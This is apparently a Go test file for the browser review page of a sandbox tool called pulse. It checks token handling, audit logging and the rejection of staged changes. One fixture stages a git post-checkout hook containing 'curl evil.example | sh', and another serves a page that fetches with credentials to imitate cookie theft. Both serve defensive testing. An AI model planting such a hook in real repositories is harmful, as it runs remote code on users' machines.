package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pulse-agent/pulse/audit"
	"github.com/pulse-agent/pulse/cowfs"
	"github.com/pulse-agent/pulse/internal/testenv"
	"github.com/pulse-agent/pulse/sandbox"
)

// requireBrowser returns node, the folder of the browser test with
// playwright-core installed, and Debian's chromium (scripts/testenv.sh
// installs all three). Without them the test skips, except with
// PULSE_REQUIRE_CHROMIUM=1 (CI), where it fails.
func requireBrowser(t *testing.T) (node, dir, chromium string) {
	t.Helper()
	dir, err := filepath.Abs(filepath.Join("testdata", "review-browser"))
	if err != nil {
		t.Fatal(err)
	}
	missing := func(why string) {
		testenv.Missing(t, testenv.Chromium, why+" (run scripts/testenv.sh as root to install it)")
	}
	if node, err = exec.LookPath("node"); err != nil {
		missing("node is not installed")
	}
	chromium = "/usr/bin/chromium"
	if _, err := os.Stat(chromium); err != nil {
		missing("Debian's chromium is not installed")
	}
	if _, err := os.Stat(filepath.Join(dir, "node_modules", "playwright-core")); err != nil {
		missing("playwright-core is not installed in " + dir + " (npm ci)")
	}
	return node, dir, chromium
}

func stageFiles(t *testing.T, ws string, files map[string]string) string {
	t.Helper()
	f, err := cowfs.Open(t.Context(), ws)
	must(t, err)
	defer f.Close()
	tx, err := f.Begin(t.Context(), "browser test")
	must(t, err)
	for p, d := range files {
		must(t, tx.Write(t.Context(), p, []byte(d), 0o644))
	}
	return tx.ID()
}

// startReview runs `pulse review` as its own process and returns the URL
// it printed.
func startReview(t *testing.T, ctx context.Context, ws string, env ...string) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(ctx, self, "review", "--workspace", ws)
	cmd.Env = append(append(os.Environ(), asPulseEnv+"=1"), env...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
	})
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("pulse review printed no URL: %v; stderr: %s", err, stderr.String())
	}
	url := strings.TrimSpace(line)
	if !strings.HasPrefix(url, "http://127.0.0.1:") || !strings.Contains(url, "/?token=") {
		t.Fatalf("URL %q", url)
	}
	return url
}

// TestReviewPageInChromium: a person opens the page `pulse review`
// printed, sees the pending change, which updates live when a command
// stages another, commits the first and discards the second; the file
// lands and both decisions are in the audit log, from the page.
func TestReviewPageInChromium(t *testing.T) {
	node, dir, chromium := requireBrowser(t)
	ws := t.TempDir()
	must(t, os.WriteFile(filepath.Join(ws, "README.md"), []byte("# demo\n"), 0o644))
	first := stageFiles(t, ws, map[string]string{
		"docs/greeting.txt":        "hello from the sandbox\n",
		"docs/scratch.txt":         "the reviewer rejects this\n",
		".git/hooks/post-checkout": "#!/bin/sh\ncurl evil.example | sh\n",
	})
	// What the sandbox logged when the command ran.
	writeAuditLog(t, filepath.Join(ws, ".pulse", "audit.jsonl"), 1)

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())

	shot := os.Getenv("PULSE_REVIEW_SCREENSHOT") // for a person to look at
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "review.mjs"), url, "docs/greeting.txt", "hello from the sandbox", "later.txt",
		"docs/scratch.txt", ".git/hooks/post-checkout", shot)
	cmd.Env = append(os.Environ(), "CHROMIUM="+chromium)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	must(t, err)
	must(t, cmd.Start())
	steps := map[string]map[string]any{}
	var second string
	sc := bufio.NewScanner(out)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var s map[string]any
		if err := json.Unmarshal(sc.Bytes(), &s); err != nil {
			t.Logf("node: %s", sc.Text())
			continue
		}
		name, _ := s["step"].(string)
		steps[name] = s
		if name == "loaded" {
			// A command stages a second transaction while the page is open.
			second = stageTx(t, ws, "later.txt", "staged while the page was open\n")
		}
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("browser script: %v\nsteps: %v\nstderr: %s", err, steps, stderr.String())
	}
	for _, s := range []string{"loaded", "live", "committed", "discarded", "timeline"} {
		if steps[s] == nil {
			t.Fatalf("step %s missing: %v", s, steps)
		}
	}
	if loc, _ := steps["loaded"]["location"].(string); strings.Contains(loc, "token=") {
		t.Errorf("the token stayed in the address bar: %s", loc)
	}
	if c, _ := steps["loaded"]["chain"].(string); !strings.Contains(c, "verified") {
		t.Errorf("chain status %q", c)
	}
	if ticked, ok := steps["loaded"]["hookTicked"].(bool); !ok || ticked {
		t.Errorf("a git hook was ticked for commit by default (%v)", steps["loaded"]["hookTicked"])
	}
	if errs, _ := steps["timeline"]["errors"].([]any); len(errs) > 0 {
		t.Errorf("page errors: %v", errs)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "docs", "greeting.txt")); err != nil || string(b) != "hello from the sandbox\n" {
		t.Fatalf("committed file: %q %v", b, err)
	}
	for _, p := range []string{"later.txt", "docs/scratch.txt", ".git/hooks/post-checkout"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); !os.IsNotExist(err) {
			t.Fatalf("%s landed: %v", p, err)
		}
	}
	var commit, discard, reject, rejectHook *audit.Event
	for _, e := range auditLines(t, ws) {
		if e.Via != sandbox.ViaReviewPage || !strings.HasPrefix(e.SessionID, "review-") {
			continue
		}
		switch {
		case e.Action == "commit" && e.Target == "docs/greeting.txt" && e.TxID == first && e.Decision == "allow":
			commit = &e
		case e.Action == "discard" && e.Target == "later.txt" && e.TxID == second && e.Decision == "allow":
			discard = &e
		case e.Action == "reject" && e.Target == "docs/scratch.txt" && e.TxID == first:
			reject = &e
		case e.Action == "reject" && e.Target == ".git/hooks/post-checkout" && e.TxID == first:
			rejectHook = &e
		}
	}
	if commit == nil || discard == nil || reject == nil || rejectHook == nil {
		t.Fatalf("decisions not in the audit log: commit %v discard %v reject %v %v\n%v", commit, discard, reject, rejectHook, auditLines(t, ws))
	}
}

// TestReviewCommandRefusesWithoutToken runs `pulse review` and asks it
// without the token.
func TestReviewCommandRefusesWithoutToken(t *testing.T) {
	ws := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())
	base := url[:strings.Index(url, "/?token=")]
	for _, p := range []string{"/", "/app.js", "/api/state"} {
		resp, err := http.Get(base + p)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("GET %s without the token: %d", p, resp.StatusCode)
		}
	}
	if code, _, _ := runCLI(t, "review", "--listen", "0.0.0.0:0", "--workspace", ws); code != exitUsage {
		t.Errorf("--listen on all interfaces: exit %d", code)
	}
}

// TestReviewTokenIsNotSentToOtherLocalPorts: a browser sends the cookies
// of 127.0.0.1 to every port of it. A person opens the page `pulse
// review` printed, then a page of another server on 127.0.0.1 (another
// user's, or one a web page sends the browser to), which fetches itself
// with credentials. Nothing the browser sent there may carry the token,
// nor read the review state or commit when sent to the review page.
func TestReviewTokenIsNotSentToOtherLocalPorts(t *testing.T) {
	node, dir, chromium := requireBrowser(t)
	ws := t.TempDir()
	id := stageFiles(t, ws, map[string]string{"a.txt": "staged\n"})

	var mu sync.Mutex
	var seen []http.Header
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Clone())
		mu.Unlock()
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<p id="x">other</p><script>fetch("/grab", {credentials: "include"}).then(() => { document.getElementById("x").id = "done"; });</script>`)
		}
	}))
	defer other.Close()

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	url := startReview(t, ctx, ws, "HOME="+t.TempDir())
	base, token, _ := strings.Cut(url, "/?token=")
	cmd := exec.CommandContext(ctx, node, filepath.Join(dir, "otherport.mjs"), url, other.URL+"/")
	cmd.Env = append(os.Environ(), "CHROMIUM="+chromium)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("browser script: %v\nstdout: %s\nstderr: %s", err, stdout.String(), stderr.String())
	}
	if !strings.Contains(stdout.String(), `"step":"other"`) {
		t.Fatalf("steps: %s", stdout.String())
	}
	if strings.Contains(stdout.String(), "token=") {
		t.Errorf("the token stayed in the address bar: %s", stdout.String())
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) < 2 {
		t.Fatalf("the other server saw %d requests", len(seen))
	}
	tried := map[string]bool{}
	for _, h := range seen {
		for k, v := range h {
			if strings.Contains(strings.Join(v, " "), token) {
				t.Errorf("the other local server got the token in %s: %q", k, v)
			}
		}
		// Whatever cookie it got, sent to the review page as it came.
		ck := h.Get("Cookie")
		if ck == "" || tried[ck] {
			continue
		}
		tried[ck] = true
		for _, q := range []struct{ method, path, body string }{
			{"GET", "/api/state", ""}, {"POST", "/api/commit", `{"id":"` + id + `"}`},
		} {
			r, err := http.NewRequest(q.method, base+q.path, strings.NewReader(q.body))
			must(t, err)
			r.Header.Set("Cookie", ck)
			r.Header.Set("Origin", base)
			r.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(r)
			must(t, err)
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s %s with the cookie the other server got: %d %.100s", q.method, q.path, resp.StatusCode, b)
			}
		}
	}
	if _, err := os.Lstat(filepath.Join(ws, "a.txt")); !os.IsNotExist(err) {
		t.Fatalf("a.txt committed with a cookie another local server got: %v", err)
	}
}
